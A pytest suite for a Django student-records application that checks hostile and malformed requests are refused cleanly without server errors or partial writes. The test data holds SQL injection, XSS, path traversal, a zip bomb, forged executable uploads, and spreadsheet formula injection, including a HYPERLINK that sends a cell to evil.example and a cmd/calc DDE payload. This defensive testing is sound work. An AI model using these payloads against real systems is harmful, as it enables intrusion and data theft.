"""Hostile and malformed input: no server error, no partial write, always a clear answer.

Each case is one request a careless or malicious user could send – junk query strings, HTMX headers
with garbage, over-long and NUL-laden form values, SQL/HTML/formula injection, impossible dates, huge
numbers, path traversal in upload names, invalid UTF-8 in multipart bodies, forged uploads. For every
case: the status is below 500; when the answer is an error (4xx, or a form shown again with errors, or a
redirect carrying an error message) no table changed; and the user gets a message they can act on.
Cases marked `reject` must be refused; `any` may also succeed (e.g. a name with quotes is a name).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from uommam.core.backup import table_fingerprints
from uommam.testing.spreadsheets import GOOD_ROWS, NATIONAL_HEADERS, csv_bytes, xlsx_bytes
from uommam.testing.world import World

# Tables that change on every request by design (sessions) or record the attempt itself (lockouts).
VOLATILE = ("django_session", "axes_")
LONG = "Ă" * 10_000
NUL = "Nguyễn\x00Văn"
SQL = "'; DROP TABLE people_person; --"
HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'
TRAVERSAL = "../../../../etc/passwd"
HUGE = "9" * 40


@dataclass(frozen=True)
class Case:
    id: str
    url: Callable[[World], str]
    method: str = "get"
    data: dict[str, Any] = field(default_factory=dict)
    headers: dict[str, str] = field(default_factory=dict)
    files: Callable[[], dict[str, Any]] | None = None
    raw: tuple[bytes, str] | None = None  # (body, content type) sent as is
    expect: str = "reject"  # or "any"
    persona: str = "cell_a"
    journalled: bool = False  # the attempt itself is journalled (failed logins): the audit table may grow


def _u(name: str, **kwargs: Any) -> Callable[[World], str]:
    return lambda world: reverse(name, kwargs=kwargs)


def _student(name: str, key: str = "a") -> Callable[[World], str]:
    return lambda world: reverse(name, kwargs={"pk": world.students[key].pk})


def _person_form(**overrides: Any) -> dict[str, Any]:
    data = {
        "family_name": "Lò",
        "middle_name": "Văn",
        "given_name": "Thử",
        "dob": "05/09/2009",
        "sex": "M",
        "ethnicity": "03",
        "school": "{S-A}",
        "cohort": "2024",
        "class_name": "11A1",
    }
    data.update(overrides)
    return data


def _upload(name: str, content: bytes, key: str = "file") -> Callable[[], dict[str, Any]]:
    return lambda: {key: SimpleUploadedFile(name, content)}


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "0" * (300 * 1024 * 1024))
    return buffer.getvalue()


def _multipart(fields: list[tuple[bytes, bytes]], boundary: bytes = b"BoUnDaRy") -> tuple[bytes, str]:
    body = b""
    for name, value in fields:
        body += b"--" + boundary + b'\r\nContent-Disposition: form-data; name="' + name + b'"\r\n\r\n' + value + b"\r\n"
    body += b"--" + boundary + b"--\r\n"
    return body, f"multipart/form-data; boundary={boundary.decode()}"


def _multipart_file(filename: bytes, content: bytes, boundary: bytes = b"BoUnDaRy") -> tuple[bytes, str]:
    body = (
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="school"\r\n\r\n{S-A}\r\n'
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="kind"\r\n\r\nstudents\r\n'
        b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; filename="' + filename + b'"\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n" + content + b"\r\n--" + boundary + b"--\r\n"
    )
    return body, f"multipart/form-data; boundary={boundary.decode()}"


QUERY_JUNK = {
    "page-negative": {"page": "-1"},
    "page-huge": {"page": HUGE},
    "page-text": {"page": "' OR 1=1 --"},
    "cohort-huge": {"cohort": HUGE},
    "cohort-float-overflow": {"cohort": "1e309"},
    "cohort-negative": {"cohort": "-2024"},
    "school-sql": {"school": SQL},
    "school-traversal": {"school": TRAVERSAL},
    "school-other-scope": {"school": "999999"},
    "q-html": {"q": HTML},
    "q-nul": {"q": NUL},
    "q-long": {"q": LONG},
    "q-sql": {"q": SQL},
    "q-like-wildcards": {"q": "%_%_\\"},
    "ethnicity-junk": {"ethnicity": "zz"},
    "youth-union-junk": {"youth_union": "<x>"},
    "archived-junk": {"archived": "maybe"},
    "class-long": {"class_name": LONG},
    "repeated-keys": {"q": ["a", "b", "c"], "page": ["1", "2"]},
}
AUDIT_QUERY_JUNK = {
    "date-impossible": {"date_from": "31/02/2025"},
    "date-garbage": {"date_to": "99/99/9999"},
    "date-reversed": {"date_from": "01/01/2026", "date_to": "01/01/2025"},
    "date-year-zero": {"date_from": "01/01/0000"},
    "action-sql": {"action": "update' OR '1'='1"},
    "model-traversal": {"model": TRAVERSAL},
    "actor-nul": {"actor": NUL},
    "q-huge": {"q": LONG},
    "page-huge": {"page": HUGE},
}
HTMX_JUNK = {
    "target-traversal": {"HX-Request": "true", "HX-Target": TRAVERSAL},
    "target-html": {"HX-Request": "true", "HX-Target": HTML},
    "current-url-junk": {"HX-Request": "true", "HX-Current-URL": "javascript:alert(1)"},
    "trigger-long": {"HX-Request": "true", "HX-Trigger": LONG},
    "boosted-junk": {"HX-Request": "true", "HX-Boosted": "maybe"},
    "request-not-bool": {"HX-Request": "yes-please"},
    "prompt-nul": {"HX-Request": "true", "HX-Prompt": "a\x00b"},
}

CASES: list[Case] = []
for key, params in QUERY_JUNK.items():
    CASES.append(Case(f"students-query-{key}", _u("people:list"), data=params, expect="any"))
for key, params in AUDIT_QUERY_JUNK.items():
    CASES.append(Case(f"audit-query-{key}", _u("audit:list"), data=params, expect="any", persona="province"))
for key, headers in HTMX_JUNK.items():
    CASES.append(Case(f"students-htmx-{key}", _u("people:list"), data={"q": "Ánh"}, headers=headers, expect="any"))
    CASES.append(Case(f"audit-htmx-{key}", _u("audit:list"), headers=headers, expect="any", persona="admin"))
CASES += [
    Case("units-query-junk", _u("orgs:tree"), data={"closed": HTML}, expect="any"),
    Case("students-invalid-utf8-query", lambda w: reverse("people:list") + "?q=%ff%fe%fd&cohort=%c3%28", expect="any"),
    Case("student-huge-id", lambda w: "/students/" + HUGE + "/"),
    Case("student-traversal-url", lambda w: "/students/..%2f..%2fetc%2fpasswd/"),
    Case("media-traversal-url", lambda w: "/media/..%2f..%2fconfig%2fsettings.py"),
    Case("static-traversal-url", lambda w: "/static/..%2f..%2fconfig%2fsettings.py"),
    Case("transition-unknown-step", lambda w: "/pipeline/1/step/drop-table/", method="post"),
    Case("transition-huge-candidate", lambda w: f"/pipeline/{HUGE}/step/enrol/", method="post"),
    Case("imports-huge-batch", lambda w: f"/imports/{HUGE}/", method="get"),
    Case("imports-commit-unknown", lambda w: "/imports/999999/commit/", method="post"),
    Case("audit-post-not-allowed", _u("audit:list"), method="post", persona="admin", expect="any"),
]

# --- Student form ----------------------------------------------------------------------------------
PERSON_REJECTS = {
    "dob-feb-31": {"dob": "31/02/2009"},
    "dob-zeros": {"dob": "00/00/0000"},
    "dob-iso-garbage": {"dob": "2009-13-45"},
    "dob-future": {"dob": "01/01/2099"},
    "dob-huge": {"dob": HUGE},
    "dob-sql": {"dob": SQL},
    "cohort-huge": {"cohort": HUGE},
    "cohort-negative": {"cohort": "-1"},
    "cohort-float": {"cohort": "2024.5"},
    "cohort-exp": {"cohort": "1e309"},
    "family-name-long": {"family_name": LONG},
    "family-name-nul": {"family_name": NUL},
    "given-name-empty": {"given_name": "   "},
    "citizen-id-sql": {"citizen_id": SQL},
    "citizen-id-long": {"citizen_id": "0" * 50},
    "citizen-id-letters": {"citizen_id": "00830812345A"},
    "citizen-id-nul": {"citizen_id": "\x00" * 12},
    "citizen-id-taken": {"citizen_id": "008308123456"},
    "email-invalid": {"email": "not-an-email@"},
    "father-year-huge": {"father_birth_year": HUGE},
    "father-year-negative": {"father_birth_year": "-5"},
    "sex-unknown": {"sex": "X"},
    "ethnicity-unknown": {"ethnicity": "99"},
    "school-other-scope": {"school": "{S-B}"},
    "school-text": {"school": "abc"},
    "school-huge": {"school": HUGE},
    "home-commune-unknown": {"home_commune": "999999"},
    "home-province-junk": {"home_province": "<x>"},
    "leaving-before-birth": {"expected_leaving_on": "01/01/2000"},
    "notes-nul": {"notes": "a\x00b"},
}
for key, values in PERSON_REJECTS.items():
    CASES.append(Case(f"student-create-{key}", _u("people:create"), method="post", data=_person_form(**values)))
for key in ("dob-feb-31", "cohort-huge", "citizen-id-sql", "family-name-nul", "school-other-scope"):
    CASES.append(
        Case(f"student-edit-{key}", _student("people:edit"), method="post", data=_person_form(**PERSON_REJECTS[key]))
    )
PERSON_ACCEPTS = {
    "name-html": {"family_name": HTML[:40], "given_name": "Thử"},
    "name-sql": {"family_name": "O'Brien", "given_name": "Thử"},
    "notes-formula": {"notes": FORMULA},
    "notes-html": {"notes": HTML},
    "address-formula": {"home_address": "@SUM(1+1)*cmd|' /C calc'!A0"},
}
for key, values in PERSON_ACCEPTS.items():
    CASES.append(
        Case(f"student-create-{key}", _u("people:create"), method="post", data=_person_form(**values), expect="any")
    )
CASES += [
    Case("student-edit-version-text", _student("people:edit"), method="post", data=_person_form(version="abc")),
    Case("student-edit-version-huge", _student("people:edit"), method="post", data=_person_form(version=HUGE)),
    Case("student-edit-out-of-scope", _student("people:edit", "b"), method="post", data=_person_form()),
    Case("student-archive-out-of-scope", _student("people:archive", "b"), method="post"),
    Case("student-archive-reason-long", _student("people:archive"), method="post", data={"reason": LONG}, expect="any"),
    Case(
        "student-create-invalid-utf8-multipart",
        _u("people:create"),
        method="post",
        raw=_multipart([(b"family_name", b"\xff\xfe\xc3\x28"), (b"given_name", b"\xc3"), (b"dob", b"05/09/2009")]),
    ),
    Case(
        "student-create-broken-multipart",
        _u("people:create"),
        method="post",
        raw=(b"--x\r\ngarbage", "multipart/form-data; boundary=x"),
    ),
    Case("student-create-no-boundary", _u("people:create"), method="post", raw=(b"a=b", "multipart/form-data")),
    Case(
        "student-create-json-body", _u("people:create"), method="post", raw=(b'{"family_name": 1}', "application/json")
    ),
]

# --- Parental consent --------------------------------------------------------------------------------
CONSENT = {"given_by": "Ma Văn Cha", "relation": "father", "given_on": "01/09/2025", "scope": "Hồ sơ"}
for key, values in {
    "date-impossible": {"given_on": "31/13/2025"},
    "date-future": {"given_on": "01/01/2099"},
    "relation-junk": {"relation": "hacker"},
    "given-by-long": {"given_by": LONG},
    "given-by-nul": {"given_by": NUL},
    "scope-empty": {"scope": ""},
}.items():
    CASES.append(Case(f"consent-{key}", _student("people:consent_add"), method="post", data={**CONSENT, **values}))
CASES += [
    Case(
        "consent-exe-named-pdf",
        _student("people:consent_add"),
        method="post",
        data=CONSENT,
        files=_upload("../../evil.pdf", b"MZ\x90\x00\x03 windows executable", key="document"),
    ),
    Case(
        "consent-html-named-png",
        _student("people:consent_add"),
        method="post",
        data=CONSENT,
        files=_upload("scan.png", b"<html><script>alert(1)</script>", key="document"),
    ),
    Case("consent-out-of-scope", _student("people:consent_add", "b"), method="post", data=CONSENT),
    Case("consent-youth-union", _student("people:consent_add"), method="post", data=CONSENT, persona="youth_a"),
]

# --- Imports: uploads ------------------------------------------------------------------------------
UPLOAD = {"school": "{S-A}", "kind": "students"}
GOOD_XLSX = xlsx_bytes([NATIONAL_HEADERS, *GOOD_ROWS])
UPLOAD_REJECTS = {
    "empty-file": ("ds.xlsx", b""),
    "random-bytes-xlsx": ("ds.xlsx", bytes(range(256)) * 40),
    "html-as-csv": ("ds.csv", b"<html><body><script>alert(1)</script></body></html>"),
    "exe": ("setup.exe", b"MZ\x90\x00" + b"\x00" * 500),
    "zip-not-xlsx": ("ds.xlsx", b"PK\x03\x04" + b"\x00" * 100),
    "zip-bomb": ("bomb.xlsx", None),
    "csv-only-header": ("ds.csv", csv_bytes([NATIONAL_HEADERS])),
    "csv-nul-bytes": ("ds.csv", b"STT,H\x00o\x00 t\x00en\n1,\x00\x00\x00,05/09/2010\n"),
    "csv-bad-dates": (
        "ds.csv",
        csv_bytes([NATIONAL_HEADERS, [1, "10A1", "Nguyễn Văn A", "31/02/2010", "Nam", "Kinh", ""]]),
    ),
    "csv-huge-number": (
        "ds.csv",
        csv_bytes([NATIONAL_HEADERS, [1, "10A1", "Nguyễn Văn A", HUGE, "Nam", "Kinh", HUGE]]),
    ),
}
for key, (name, content) in UPLOAD_REJECTS.items():
    files = (
        (lambda: {"file": SimpleUploadedFile("bomb.xlsx", _zip_bomb())}) if content is None else _upload(name, content)
    )
    # A file with row errors is still previewed (a batch with errors, nothing written to students): "any".
    expect = "any" if key in {"csv-bad-dates", "csv-huge-number", "csv-only-header"} else "reject"
    CASES.append(Case(f"import-{key}", _u("imports:upload"), method="post", data=UPLOAD, files=files, expect=expect))
CASES += [
    Case("import-no-file", _u("imports:upload"), method="post", data=UPLOAD),
    Case(
        "import-school-out-of-scope",
        _u("imports:upload"),
        method="post",
        data={**UPLOAD, "school": "{S-B}"},
        files=_upload("ds.xlsx", GOOD_XLSX),
    ),
    Case(
        "import-kind-junk",
        _u("imports:upload"),
        method="post",
        data={**UPLOAD, "kind": SQL},
        files=_upload("ds.xlsx", GOOD_XLSX),
    ),
    Case(
        "import-traversal-name",
        _u("imports:upload"),
        method="post",
        data=UPLOAD,
        files=_upload(TRAVERSAL + ".xlsx", GOOD_XLSX),
        expect="any",
    ),
    Case(
        "import-long-name",
        _u("imports:upload"),
        method="post",
        data=UPLOAD,
        files=_upload("a" * 2000 + ".xlsx", GOOD_XLSX),
        expect="any",
    ),
    Case(
        "import-formula-cells",
        _u("imports:upload"),
        method="post",
        data=UPLOAD,
        files=_upload("ds.csv", csv_bytes([NATIONAL_HEADERS, [1, "10A1", FORMULA, "05/09/2010", "Nam", "Kinh", ""]])),
        expect="any",
    ),
    Case(
        "import-invalid-utf8-csv",
        _u("imports:upload"),
        method="post",
        data=UPLOAD,
        files=_upload("ds.csv", b"STT,H\xe1\xbb\n1,\xff\xfe\xfd,05/09/2010\n"),
        expect="any",
    ),
    Case(
        "import-invalid-utf8-filename",
        _u("imports:upload"),
        method="post",
        raw=_multipart_file(b"\xff\xfe.xlsx", GOOD_XLSX),
        expect="any",
    ),
    Case(
        "import-nul-filename",
        _u("imports:upload"),
        method="post",
        raw=_multipart_file(b"ds\x00.exe.xlsx", GOOD_XLSX),
        expect="any",
    ),
    Case(
        "import-traversal-filename-raw",
        _u("imports:upload"),
        method="post",
        raw=_multipart_file(b"..\\..\\..\\windows\\win.ini", GOOD_XLSX),
        expect="any",
    ),
    Case(
        "import-viewer",
        _u("imports:upload"),
        method="post",
        data=UPLOAD,
        files=_upload("ds.xlsx", GOOD_XLSX),
        persona="viewer",
    ),
]

# --- Logins and second factor ---------------------------------------------------------------------
CASES += [
    Case(
        "login-long-username",
        _u("login"),
        method="post",
        data={"username": LONG, "password": "x"},
        persona="",
        journalled=True,
    ),
    Case(
        "login-nul-username",
        _u("login"),
        method="post",
        data={"username": "cell_a\x00", "password": "x"},
        persona="",
        journalled=True,
    ),
    Case(
        "login-sql-username",
        _u("login"),
        method="post",
        data={"username": SQL, "password": SQL},
        persona="",
        journalled=True,
    ),
    Case(
        "login-offsite-next",
        lambda w: reverse("login") + "?next=https://evil.example/",
        method="post",
        data={"username": "x", "password": "y"},
        persona="",
        journalled=True,
    ),
    Case("otp-verify-junk", _u("otp_verify"), method="post", data={"token": HTML}, expect="any", persona="province"),
    Case(
        "otp-setup-long-token",
        _u("otp_setup"),
        method="post",
        data={"token": "1" * 5000},
        persona="province",
        expect="any",
    ),
    Case(
        "otp-setup-nul-token",
        _u("otp_setup"),
        method="post",
        data={"token": "12\x003456"},
        persona="province",
        expect="any",
    ),
    Case(
        "password-change-nul",
        _u("password_change"),
        method="post",
        data={"old_password": "x\x00", "new_password1": "a\x00", "new_password2": "a\x00"},
    ),
    Case(
        "language-junk",
        _u("set_language"),
        method="post",
        data={"language": SQL, "next": "https://evil.example/"},
        expect="any",
    ),
]


def _resolve(value: Any, world: World) -> Any:
    if isinstance(value, str) and value.startswith("{") and value.endswith("}"):
        return str(world.units[value[1:-1]].pk)
    if isinstance(value, list):
        return [_resolve(v, world) for v in value]
    return value


def _fingerprints() -> dict[str, tuple[int, str]]:
    return {t: v for t, v in table_fingerprints().items() if not t.startswith(VOLATILE)}


def _is_error(response: Any) -> bool:
    if response.status_code >= 400:
        return True
    if response.status_code == 200 and response.wsgi_request.method == "POST":
        return True  # a POST answered with a page (not a redirect) is a form shown again
    if response.status_code in (301, 302):
        return any(m.level_tag == "error" for m in get_messages(response.wsgi_request)) or _redirect_shows_error(
            response
        )
    return False


def _redirect_shows_error(response: Any) -> bool:
    """A POST answered with a redirect to a page that shows an error message (messages framework)."""
    location = response.get("Location", "")
    if response.wsgi_request.method != "POST" or not location.startswith("/"):
        return False
    page = response.client.get(location)
    return "alert-danger" in page.content.decode(errors="replace")


def _has_clear_message(response: Any) -> bool:
    if response.status_code in (301, 302):
        return True  # a redirect: either a success, or an error message checked in _is_error
    if response.status_code == 405:
        return "Allow" in response
    body = response.content.decode(errors="replace")
    if response.status_code >= 400:
        return len(body.strip()) > 0
    if response.wsgi_request.method == "POST":
        return 'role="alert"' in body or "invalid-feedback" in body or "alert-danger" in body
    return True


@pytest.fixture(autouse=True)
def _isolated_media(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.UOMMAM_IMPORT_MAX_UNCOMPRESSED_BYTES = 50 * 1024 * 1024


def test_there_are_at_least_a_hundred_cases() -> None:
    assert len(CASES) >= 100
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_input_is_answered_without_error_or_partial_write(
    case: Case, world: World, client_for: Callable[[str], Client]
) -> None:
    client = client_for(case.persona) if case.persona else Client()
    client.raise_request_exception = False
    url = case.url(world)
    data = {k: _resolve(v, world) for k, v in case.data.items()}
    before = _fingerprints()
    headers = dict(case.headers)
    if case.raw is not None:
        body, content_type = case.raw
        body = body.replace(b"{S-A}", str(world.units["S-A"].pk).encode())
        response = client.generic("POST", url, body, content_type=content_type, headers=headers)
    elif case.method == "post":
        payload = {**data, **(case.files() if case.files else {})}
        response = client.post(url, payload, headers=headers)
    else:
        response = client.get(url, data, headers=headers)

    assert response.status_code < 500, f"{case.id}: server error {response.status_code}"
    error = _is_error(response)
    if case.method == "get":
        assert _fingerprints() == before, f"{case.id}: a GET changed the database"
    elif error:
        changed = [t for t, v in _fingerprints().items() if before.get(t) != v]
        if case.journalled:
            changed = [t for t in changed if t != "audit_auditentry"]
        assert not changed, f"{case.id}: refused ({response.status_code}) but wrote to {changed}"
    if case.expect == "reject":
        assert error or response.status_code == 404, f"{case.id}: accepted ({response.status_code})"
    assert _has_clear_message(response), f"{case.id}: no message for the user ({response.status_code})"
    if response.status_code == 200:
        body = response.content.decode(errors="replace")
        assert "<script>alert" not in body and "<img src=x onerror" not in body, f"{case.id}: unescaped markup"


def test_injected_markup_is_shown_escaped_on_the_student_page(
    world: World, client_for: Callable[[str], Client]
) -> None:
    client = client_for("cell_a")
    client.post(
        reverse("people:create"), {k: _resolve(v, world) for k, v in _person_form(notes=HTML, family_name="Lò").items()}
    )
    from uommam.people.models import Person

    person = Person.objects.get(given_name="Thử")
    body = client.get(reverse("people:detail", args=[person.pk])).content.decode()
    assert "<script>alert" not in body


@pytest.mark.parametrize("token", ["1" * 5000, "12\x003456", HTML, "", "１２３４５６"])
def test_junk_codes_on_the_second_factor_page_write_nothing(
    token: str, world: World, client_for: Callable[[str], Client]
) -> None:
    client = client_for("province")
    client.get(reverse("otp_setup"))  # the page creates the pending secret
    before = _fingerprints()
    response = client.post(reverse("otp_setup"), {"token": token})
    assert response.status_code == 200 and "invalid-feedback" in response.content.decode()
    assert _fingerprints() == before
